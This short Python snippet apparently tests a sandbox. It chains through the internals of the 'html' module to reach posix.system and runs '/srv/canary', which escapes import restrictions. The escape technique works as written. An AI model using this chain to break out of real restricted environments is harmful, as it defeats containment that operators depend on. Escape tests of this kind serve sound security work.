# reaches: html to re to enum to sys
import html
html._re.enum.sys.modules["posix"].system("/srv/canary")
